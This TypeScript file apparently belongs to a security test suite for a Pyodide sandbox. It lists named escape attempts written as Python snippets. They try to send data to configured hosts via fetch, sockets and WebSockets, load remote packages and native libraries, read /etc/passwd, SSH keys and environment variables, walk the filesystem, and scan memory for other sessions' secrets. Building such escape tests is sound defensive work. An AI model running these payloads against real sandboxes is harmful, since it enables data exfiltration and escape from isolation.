import type { Attack, Target } from './attack.ts';
import { each, onScopes, overAll } from './pyodide-source.ts';

/** Ways from Pyodide's worker to the network, the host's files, other sessions or anything that stays. */
export function pyodideEscapes({ hosts, tcpPort, udpPort, secretPath }: Target): readonly Attack[] {
  const origins = JSON.stringify(hosts.map((host) => `http://${host}:${tcpPort}`));
  const path = JSON.stringify(secretPath);
  return [
    {
      name: 'js.fetch and its kind',
      source: overAll(
        origins,
        'import js',
        'js.fetch(origin + "/leak")',
        'js.XMLHttpRequest.new().open("GET", origin + "/leak", False)',
        'js.WebSocket.new(origin.replace("http", "ws"))',
        'js.EventSource.new(origin)',
        'js.navigator.sendBeacon(origin, "leak")',
        'js.importScripts(origin + "/leak.js")',
        'js.Worker.new(origin + "/leak.js")',
        'js.eval("fetch(\'" + origin + "\')")',
      ),
    },
    {
      name: 'everything js shows',
      source:
        'import js\nprint(dir(js))\nfor name in dir(js):\n    try: print(name, str(getattr(js, name))[:100])\n    except BaseException as error: print(type(error).__name__)',
    },
    {
      name: 'run_js',
      source: overAll(
        origins,
        'from pyodide.code import run_js',
        'run_js("fetch(\'" + origin + "/leak\')")',
        'run_js("import(\'" + origin + "/leak.js\')")',
        'run_js("new XMLHttpRequest()")',
        'run_js("self.importScripts(\'" + origin + "/leak.js\')")',
        'run_js("new WebSocket(\'" + origin.replace("http", "ws") + "\')")',
      ),
    },
    {
      name: 'import() of the page’s own scripts',
      source: each(
        'from pyodide.code import run_js\nimport js',
        'run_js("import(\'./kernel-page.js\')")',
        'run_js("import(\'./pyodide.asm.mjs\')")',
        'run_js("import(\'data:text/javascript,fetch(1)\')")',
        'run_js("import(\'blob:x\')")',
      ),
    },
    {
      name: 'constructor.constructor',
      source: each(
        'import js',
        'js.Object.constructor.constructor("return this")().fetch',
        'js.Object.constructor("return globalThis")()',
        'js.Object.new().constructor.constructor("return self")()',
        'js.Array.new().map.constructor("return this")()',
        'js.setTimeout.constructor("return fetch")()',
        'js.Promise.resolve.__class__',
        'js.Reflect.getPrototypeOf(js.Object.entries).constructor("return postMessage")()',
      ),
    },
    {
      name: 'pyodide_js and its module',
      source: each(
        'import pyodide_js',
        'dir(pyodide_js)',
        'dir(pyodide_js._module)',
        'pyodide_js._module.FS.readdir("/")',
        `pyodide_js._module.FS.readFile(${path})`,
        'pyodide_js._module.ENV',
        'dir(pyodide_js._api)',
        'pyodide_js._api.config',
        'pyodide_js._module.emscripten_run_script("fetch(1)")',
        'pyodide_js._module.arguments_',
      ),
    },
    {
      name: 'mountNodeFS',
      source: each(
        'import pyodide_js',
        'pyodide_js.mountNodeFS("/mnt", "/")',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {"root": "/"}, "/mnt")',
        'pyodide_js.FS.filesystems',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, pyodide_js.toPy({}), "/tmp")',
        'pyodide_js.FS.mount(pyodide_js.FS.filesystems.WORKERFS, pyodide_js.toPy({}), "/tmp")',
        'pyodide_js.mountNativeFS("/mnt", None)',
      ),
    },
    {
      name: 'files that are fetched when read',
      source: overAll(
        origins,
        'import pyodide_js',
        'pyodide_js.FS.createLazyFile("/", "leak", origin + "/leak", True, True)',
        'open("/leak").read()',
        'pyodide_js.FS.createPreloadedFile("/", "leak2", origin + "/leak", True, True)',
        'pyodide_js._module.readAsync(origin)',
        'pyodide_js._module.read_(origin)',
      ),
    },
    {
      name: 'packages from the network',
      source: overAll(
        origins,
        'import pyodide_js, asyncio',
        'asyncio.run(pyodide_js.loadPackage(origin + "/leak.whl"))',
        'pyodide_js._module.loadDynamicLibrary(origin + "/leak.so")',
        '__import__("micropip").install(origin + "/leak.whl")',
        'pyodide_js.loadPackagesFromImports("import leak")',
        'pyodide_js._api.loadBinaryFile(origin + "/leak")',
        'pyodide_js._api.packageManager.installPackage(origin)',
      ),
    },
    {
      name: 'pyodide.http',
      source: overAll(
        origins,
        'import pyodide.http, asyncio',
        'pyodide.http.open_url(origin + "/leak").read()',
        'asyncio.run(pyodide.http.pyfetch(origin + "/leak"))',
        'pyodide.http.pyxhr.get(origin + "/leak")',
      ),
    },
    {
      name: 'ctypes',
      source: each(
        'import ctypes',
        'ctypes.CDLL(None).system(b"id")',
        `ctypes.CDLL(None).emscripten_run_script(b"fetch('" + ${origins}[0].encode() + b"')")`,
        `ctypes.CDLL(None).emscripten_async_wget(${origins}[0].encode(), b"/leak", None, None)`,
        'ctypes.CDLL(None).emscripten_run_script_string',
        'ctypes.pythonapi.PyRun_SimpleString(b"import os; os.listdir(chr(47))")',
        'ctypes.string_at(0, 64)',
      ),
    },
    {
      name: 'dlopen',
      source: each(
        'import _ctypes, sys',
        'sys.setdlopenflags(2)',
        '_ctypes.dlopen("libc.so.6", 2)',
        `_ctypes.dlopen(${origins}[0] + "/leak.so", 2)`,
        `_ctypes.dlopen(${path}, 2)`,
        '__import__("importlib.machinery").machinery.ExtensionFileLoader("x", "/out/x.so").load_module()',
      ),
    },
    {
      name: 'JsFinder after unregister',
      source: each(
        'import sys, importlib, pyodide_js\nfrom _pyodide._importhook import jsfinder\npyodide_js.unregisterJsModule("js")\nsys.modules.pop("js", None)',
        'jsfinder.jsproxies',
        '[str(each) for each in sys.meta_path]',
        'importlib.import_module("js")',
        '[getattr(each, "jsproxies", None) for each in sys.meta_path]',
        'jsfinder.register_js_module("js", pyodide_js)',
        'importlib.import_module("js").fetch',
      ),
    },
    {
      name: 'the global scope, whatever is left in it',
      source: onScopes(
        'print(dir(each))\nfor name in ("fetch", "XMLHttpRequest", "WebSocket", "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "indexedDB", "caches", "navigator", "location", "postMessage", "close", "MessageChannel", "EventTarget", "crypto", "performance", "RTCPeerConnection", "WebTransport", "Request", "Response", "Blob", "URL", "FileReaderSync", "onmessage", "addEventListener"):\n    if getattr(each, name, None) is not None: print("HAS", name)',
      ),
    },
    {
      name: 'the network from that scope',
      source: onScopes(
        `for origin in ${origins}:\n    for act in (lambda: each.fetch(origin), lambda: each.importScripts(origin), lambda: each.Worker.new(origin), lambda: each.navigator.sendBeacon(origin), lambda: each.WebSocket.new(origin), lambda: each.navigator.connection, lambda: each.location.assign(origin)):\n        try: print(act())\n        except BaseException as error: print(type(error).__name__)`,
      ),
    },
    {
      name: 'sockets',
      source: overAll(
        origins,
        'import socket, urllib.request, http.client',
        `socket.create_connection(("${hosts[0]}", ${tcpPort}), 1).send(b"leak")`,
        `socket.socket(2, 2).sendto(b"leak", ("${hosts[0]}", ${udpPort}))`,
        'urllib.request.urlopen(origin + "/leak", timeout=1)',
        `http.client.HTTPConnection("${hosts[0]}", ${tcpPort}, timeout=1).request("GET", "/leak")`,
        'socket.getaddrinfo("leak.example.com", 80)',
      ),
    },
    {
      name: 'subprocess',
      source: each(
        'import subprocess, os',
        `subprocess.run(["cat", ${path}], capture_output=True).stdout`,
        `os.popen("cat " + ${path}).read()`,
        `os.system("cat " + ${path})`,
        'os.fork()',
        'os.execv("/bin/cat", ["cat", "/etc/passwd"])',
      ),
    },
    {
      name: 'host files',
      source: `import os\nfor path in [${path}, "/etc/passwd", "/proc/self/environ", "/proc/self/fd/0", "/dev/tty", "/dev/mem", "/root/.ssh/id_rsa", "/data/../etc/passwd"] + ["../" * n + "etc/passwd" for n in range(12)]:\n    try: print(open(path).read())\n    except OSError as error: print(error.errno)\nfor number, target in enumerate([${path}, "/", "../../..", "/proc/self/root"]):\n    try:\n        os.symlink(target, f"/out/link{number}")\n        print(os.listdir(f"/out/link{number}"))\n    except OSError as error: print(error.errno)\nprint(dict(os.environ))`,
    },
    {
      name: 'everything below /',
      source:
        'import os\nfor root, folders, files in os.walk("/"):\n    for name in files:\n        try:\n            if os.path.getsize(f"{root}/{name}") < 100_000: print(open(f"{root}/{name}", errors="replace").read())\n        except OSError: pass',
    },
    {
      name: 'memory for other sessions',
      source:
        'import gc, pyodide_js\nfor thing in gc.get_objects():\n    try:\n        if "secret-" in str(thing)[:5000]: print(str(thing)[:5000])\n    except BaseException: pass\nheap = pyodide_js._module.HEAPU8.to_py()\nraw = bytes(heap)\nat = raw.find(b"secret" + b"-")\nwhile at != -1:\n    print(raw[at:at + 60]); at = raw.find(b"secret" + b"-", at + 1)',
    },
    {
      name: 'addresses of what is served',
      source: onScopes('for entry in each.performance.getEntries(): print(entry.name)'),
    },
    {
      name: 'storage that stays',
      source: onScopes(
        'for act in (lambda: each.indexedDB.open("leak"), lambda: each.caches.open("leak"), lambda: each.navigator.storage.getDirectory(), lambda: each.BroadcastChannel.new("leak").postMessage("leak"), lambda: each.SharedWorker.new("x"), lambda: each.localStorage):\n    try: print("GOT", act())\n    except BaseException as error: print(type(error).__name__)',
      ),
    },
    {
      name: 'nested workers',
      source: onScopes(
        'for act in (lambda: each.Worker.new("./kernel-worker.js"), lambda: each.Worker.new("data:text/javascript,1"), lambda: each.Worker.new(each.URL.createObjectURL(each.Blob.new(["1"])))):\n    try: print("GOT", act())\n    except BaseException as error: print(type(error).__name__)',
      ),
    },
    {
      name: 'a wheel of one’s own with a module of WebAssembly',
      source: each('import js', 'js.WebAssembly', 'js.WebAssembly.Memory.new(js.Object.new())'),
    },
  ];
}
